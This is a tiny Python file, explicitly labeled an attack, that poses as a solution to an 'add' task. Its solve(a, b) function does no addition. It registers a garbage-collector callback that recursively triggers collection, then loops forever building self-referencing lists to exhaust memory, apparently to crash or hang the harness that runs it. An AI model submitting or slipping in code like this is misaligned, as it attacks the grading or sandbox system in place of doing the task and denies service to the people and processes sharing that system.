# Attack: a collector of garbage that calls itself.
# task: add
import gc
def solve(a, b):
    gc.callbacks.append(lambda *x: gc.collect())
    x=[]
    while True: x.append([x])
